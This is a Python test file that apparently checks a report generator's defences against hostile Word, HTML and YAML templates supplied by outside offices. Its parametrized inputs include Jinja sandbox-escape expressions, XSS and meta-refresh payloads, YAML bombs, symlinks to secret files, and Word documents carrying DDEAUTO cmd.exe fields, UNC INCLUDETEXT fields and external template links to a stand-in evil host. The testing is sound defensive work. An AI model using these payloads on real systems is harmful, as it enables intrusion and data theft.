"""Templates that other offices drop: read like raw files, bounded, without power over a page."""

from __future__ import annotations

import os
import re
import shutil
import struct
import zipfile
import zlib
from dataclasses import replace
from io import BytesIO
from pathlib import Path

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import qn

from dagster_project.figures.published import CountyYear
from dagster_project.figures.regions import Region
from dagster_project.reports import circular
from dagster_project.reports.documents import ANNEX, CIRCULAR, OF_A_COUNTY, SELF_EVALUATION, WEB
from dagster_project.reports.templates import NAMES, TemplateBroken, Templates
from dagster_project.reports.web import document
from dagster_project.reports.web.page import own_policy
from dagster_project.reports.word_parts import NotAllowed, cleaned
from dagster_project.reports.write import write_reports
from tests.reports.word_reading import text_of

PINGLUO = CountyYear(2023, "640221", "平罗县")
SECRET = "planted-secret-in-a-file-of-the-machine"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "http://evil.example/x.dotm"


@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "elsewhere" / "secret"
    path.parent.mkdir()
    path.write_text(f"{SECRET}{{{{ county.county_name }}}}", "utf-8")
    return path


@pytest.fixture
def folder(tmp_path) -> Path:
    folder = tmp_path / "templates"
    folder.mkdir()
    return folder


def page(published, folder) -> str:
    return document.render(published, PINGLUO, Templates(folder)).decode()


def word(path: Path, *paragraphs: str, change=lambda document: None) -> Path:
    made = Document()
    for paragraph in paragraphs:
        made.add_paragraph(paragraph)
    change(made)
    path.parent.mkdir(parents=True, exist_ok=True)
    made.save(path)
    return path


# ------------------------------------------------------------------------------- which is opened


def test_names_are_those_of_the_projects_own_templates(folder):
    assert {CIRCULAR, SELF_EVALUATION, ANNEX.replace(".xlsx", ".yml"), "web_county.html"} <= NAMES
    for name in ("/etc/hostname", "../web_county.html", "web_other.html", ""):
        with pytest.raises(TemplateBroken, match="is no template"):
            Templates(folder).find(name, "640221")
    (folder / "web_other.html").write_text("x")
    assert Templates(folder).all_for("640221") == []


@pytest.mark.parametrize("how", ["include", "import", "extends"])
@pytest.mark.parametrize("absolute", [True, False])
def test_a_page_template_reads_no_other_file(published, folder, secret, how, absolute):
    name = str(secret) if absolute else os.path.relpath(secret, folder)
    tag = f"import '{name}' as x" if how == "import" else f"{how} '{name}'"
    (folder / "web_county.html").write_text(f"{{% {tag} %}}", "utf-8")
    with pytest.raises(TemplateBroken, match=r"web_county\.html") as broken:
        page(published, folder)
    assert SECRET not in str(broken.value)


@pytest.mark.parametrize("tag", ["{% include 'x' %}", "{% import '/etc/hostname' as x %}"])
def test_a_word_template_stands_alone(published, folder, tag):
    word(folder / CIRCULAR, tag)
    with pytest.raises(TemplateBroken, match="a template stands alone"):
        circular.render(published, PINGLUO, Templates(folder))


@pytest.mark.parametrize("name", sorted(NAMES))
@pytest.mark.parametrize("what", ["link", "link_within", "link_to_nowhere", "pipe", "folder",
                                  "in_a_linked_folder"])  # fmt: skip
def test_only_plain_files_are_opened(folder, secret, name, what):
    path = folder / "64" / name
    path.parent.mkdir()
    match what:
        case "link":
            path.symlink_to(secret)
        case "link_within":
            (folder / "other").write_text("x")
            path.symlink_to(folder / "other")
        case "link_to_nowhere":
            path.symlink_to(folder / "nothing")
        case "pipe":
            os.mkfifo(path)
        case "folder":
            path.mkdir()
        case "in_a_linked_folder":
            shutil.copy(secret, secret.parent / name)
            path.parent.rmdir()
            path.parent.symlink_to(secret.parent)
    with pytest.raises(TemplateBroken, match=r"link|pipe|folder") as broken:
        Templates(folder).find(name, "640221")
    assert str(folder / "64") in str(broken.value)
    assert Templates(folder).find(name, "110101").parent != path.parent  # others go on


def test_the_whole_folder_as_a_link_is_refused_below_raw_only(folder, secret, monkeypatch):
    from dagster_project.settings import Settings

    shutil.copy(secret, secret.parent / CIRCULAR)
    (folder / "templates").symlink_to(secret.parent)
    with pytest.raises(TemplateBroken, match="is a link"):
        Templates(folder / "templates").find(CIRCULAR, "640221")
    monkeypatch.setenv("JUNHENG_TEMPLATES", str(folder / "templates"))  # whoever runs the load
    settings = Settings.from_environment()
    assert Templates(settings.templates).find(CIRCULAR, "6") == secret.parent / CIRCULAR


# -------------------------------------------------------------------------------- what it may do


@pytest.mark.parametrize(
    "expression",
    [
        "{{ facts['schools'].clear() }}",
        "{{ facts.indicators.append(1) }}",
        "{{ facts.figures.published.rows('select 1') }}",
        "{{ fig.__self__.figures.published.rows('select 1') }}",
        "{{ charts._page.figures.published.rows('select 1') }}",
        "{{ words.update({'x': 1}) }}",
        "{{ facts.__class__.__mro__ }}",
        "{{ coefficient.func.__globals__.x }}",
        "{{ 1 / 0 }}",
        "{% include 'web_county.html' %}",  # itself, for ever
    ],
)
def test_a_page_template_changes_nothing_and_says_what_failed(published, folder, expression):
    (folder / "web_county.html").write_text(expression, "utf-8")
    with pytest.raises(TemplateBroken, match=r"web_county\.html"):
        page(published, folder)


@pytest.mark.parametrize("name", ["web_county.html", "web_layout.html", "web_region.html"])
@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<!DOCTYPE html><html><head><script>alert(1)</script></head></html>",
        "<!-- <head> --><script src='http://evil.example'></script>",
        "</head><body onload='alert(1)'>",
        "<title><head>",
    ],
)
def test_the_policy_stands_before_all_that_a_template_writes(published, folder, name, text):
    (folder / name).write_text(text, "utf-8")
    region = Region(2023, "city", "6402")
    rendered = (
        document.render_region(published, region, Templates(folder)).decode()
        if name == "web_region.html"
        else page(published, folder)
    )
    before, _, rest = rendered.partition(text)
    assert rest is not None and "alert" not in before and text in rendered
    found = re.fullmatch(
        r'<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n<meta charset="utf-8">\n'
        r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">\n',
        before,
    )
    assert found[1].replace("&#39;", "'") == own_policy()
    assert "unsafe" not in own_policy() and "default-src 'none'" in own_policy()


@pytest.mark.parametrize(
    "text",
    [
        '<meta http-equiv="refresh" content="0;url=http://evil.example">',
        "<meta name='>' HTTP-EQUIV=refresh>",
        "{{ '<meta http' ~ '-equiv=refresh>' | safe }}",
        "{{ '<meta http-equiv=refresh>' | safe }}",
    ],
)
def test_a_template_gives_the_browser_no_orders(published, folder, text):
    (folder / "web_county.html").write_text(text, "utf-8")
    with pytest.raises(TemplateBroken, match="http-equiv"):
        page(published, folder)


@pytest.mark.parametrize("name", ["web_wording.yml", "附表.yml"])
@pytest.mark.parametrize("text", ["a: &a [x]\nb: [*a]\n", "- 1", "x: " + "[" * 3000, "a: 1\na: 2"])
def test_hostile_words_are_refused(published, folder, name, text):
    from dagster_project.reports.annex.layout import layout_for

    (folder / name).write_text(text, "utf-8")
    with pytest.raises(TemplateBroken, match=re.escape(name)):
        page(published, folder) if name.startswith("web") else layout_for(
            Templates(folder), "640221"
        )


# ------------------------------------------------------------------------- what leads out of Word


def attach(made) -> None:
    """A template to attach when the document is opened, as macros are smuggled in."""
    settings = made.settings.element
    part = made.part._settings_part
    rid = part.relate_to(EVIL, f"{OFFICE}/attachedTemplate", is_external=True)
    element = settings.makeelement(qn("w:attachedTemplate"), {qn("r:id"): rid})
    settings.insert(0, element)


def link(made) -> None:
    rid = made.part.relate_to(EVIL, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    paragraph = made.add_paragraph("见")
    names = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    names += 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    paragraph._p.append(
        parse_xml(
            f'<w:hyperlink {names} r:id="{rid}"><w:r><w:t>教育部文件</w:t></w:r></w:hyperlink>'
        )
    )


def fetch_a_picture(made) -> None:
    made.add_picture(BytesIO(PICTURE))
    rid = made.part.relate_to(EVIL, RELATIONSHIP_TYPE.IMAGE, is_external=True)
    (blip,) = made.element.body.iter(qn("a:blip"))
    del blip.attrib[qn("r:embed")]
    blip.set(qn("r:link"), rid)


def in_the_header(made) -> None:
    header = made.sections[0].header
    header.is_linked_to_previous = False
    header.paragraphs[0].text = "页眉"
    header.part.relate_to(EVIL, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


PICTURE = (  # one grey dot
    b"\x89PNG\r\n\x1a\n"
    + _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    + _chunk(b"IDAT", zlib.compress(b"\0\x80"))
    + _chunk(b"IEND", b"")
)


@pytest.mark.parametrize("change", [attach, link, fetch_a_picture, in_the_header])
def test_nothing_leads_out_of_a_filled_document(published, folder, change):
    path = word(folder / CIRCULAR, "{{ county.name }}通报", change=change)
    assert b'TargetMode="External"' in b"".join(_parts(path.read_bytes()).values())
    filled = circular.render(published, PINGLUO, Templates(folder))
    parts = _parts(filled)
    assert not re.search(rb"External|evil\.example", b"".join(parts.values()))
    Document(BytesIO(filled))  # whole: every reference has its relation
    for name, data in parts.items():
        if name.endswith(".xml"):
            there = set(re.findall(rb'Id="(\w+)"', parts.get(_rels(name), b"")))
            assert set(re.findall(rb'r:(?:id|embed|link)="(\w+)"', data)) <= there, name
    assert "平罗县通报" in text_of(filled)
    assert change is not link or "教育部文件" in text_of(filled)


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def _rels(name: str) -> str:
    folder, _, file = name.rpartition("/")
    return f"{folder}/_rels/{file}.rels".lstrip("/")


def field(*pieces: str, simple: bool = False):
    """A field whose instruction is cut into ``pieces``."""
    names = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

    def change(made) -> None:
        paragraph = made.add_paragraph()._p
        if simple:
            paragraph.append(parse_xml(f'<w:fldSimple {names} w:instr="{pieces[0]}"/>'))
            return
        marks = ["begin", *pieces, "separate", "end"]
        for mark in marks:
            inner = (
                f'<w:fldChar w:fldCharType="{mark}"/>'
                if mark in ("begin", "separate", "end")
                else f"<w:instrText>{mark}</w:instrText>"
            )
            paragraph.append(parse_xml(f"<w:r {names}>{inner}</w:r>"))

    return change


@pytest.mark.parametrize(
    "change",
    [
        field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        field(" DDE", "AUTO ", "cmd"),
        field("INCLUDETEXT \\\\\\\\evil\\\\share"),
        field("includepicture http://evil.example/a.png", simple=True),
        field('HYPERLINK &quot;http://evil.example&quot;', simple=True),
        lambda made: made.part.relate_to(made.part, "http://x/relationships/oleObject"),
        lambda made: made.part.relate_to(made.part, "http://x/relationships/vbaProject"),
        lambda made: made.part.relate_to(made.part, "http://x/relationships/aFChunk"),
    ],
)  # fmt: skip
def test_programs_and_fields_that_fetch_are_refused(published, folder, change):
    word(folder / CIRCULAR, "标题", change=change)
    with pytest.raises(TemplateBroken, match="Take that out in Word") as broken:
        circular.render(published, PINGLUO, Templates(folder))
    assert str(folder / CIRCULAR) in str(broken.value)


@pytest.mark.parametrize(
    "change",
    [field("PAGE"), field(' TOC \\o "1-3" \\h'), field('HYPERLINK \\l "_Toc1"'), field("= 1 + 1"),
     field("=SUM(ABOVE)"), field("numpages  \\* Arabic", simple=True)],
)  # fmt: skip
def test_fields_of_the_document_itself_stay(published, folder, change):
    word(folder / CIRCULAR, "标题", change=change)
    assert "标题" in text_of(circular.render(published, PINGLUO, Templates(folder)))


def test_a_field_that_never_ends_is_looked_at_as_well():
    made = Document()
    field("DDE x")(made)
    last = list(made.element.body.iter(qn("w:fldChar")))[-1]
    last.getparent().remove(last)
    data = BytesIO()
    made.save(data)
    with pytest.raises(NotAllowed, match="'DDE'"):
        cleaned(data.getvalue())


# --------------------------------------------------------------------------------- what it costs


@pytest.fixture
def settings(flat_county, tmp_path):
    """The sample county's published version, to write reports of."""
    warehouse = tmp_path / "warehouse"
    shutil.copytree(flat_county.settings.current.resolve(), warehouse / "versions" / "one")
    (warehouse / "current").symlink_to("versions/one")
    return replace(
        flat_county.settings,
        raw=tmp_path / "raw",
        warehouse=warehouse,
        workers=2,
        document_seconds=4,
        file_memory="800MB",
    )


LOOP = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"


def test_a_template_without_end_or_measure_stops_its_own_document_only(settings):
    """One in Word loops, one in Word fills the memory; the nation's page prints without measure."""
    word(settings.templates / CIRCULAR, LOOP)
    word(settings.templates / "64" / SELF_EVALUATION, "{{ 'a' * (10**10) }}")
    (settings.templates / "web_region.html").write_text(
        "{% for a in range(30000) %}{{ 'b' * 2000 }}{% endfor %}", "utf-8"
    )
    reports = write_reports(settings)
    failed = {failure.document.relative_to(settings.reports).as_posix(): failure.reason
              for failure in reports.failures}  # fmt: skip
    place = "2023/640221-平罗县"
    assert "more than 4 seconds" in failed.pop(f"{place}/{CIRCULAR}")
    reason = failed.pop(f"{place}/{SELF_EVALUATION}")
    assert "0.8 GB of memory" in reason and str(settings.templates / "64") in reason
    for level in ("6402-石嘴山市", "64-宁夏回族自治区", "CN"):
        assert "larger than 50 MB" in failed.pop(f"2023/{level}/{WEB}")
    assert failed == {}
    there = {path.name for path in (settings.reports / place).glob("*.*")}
    assert {d.name for d in OF_A_COUNTY} & there == {ANNEX, WEB}
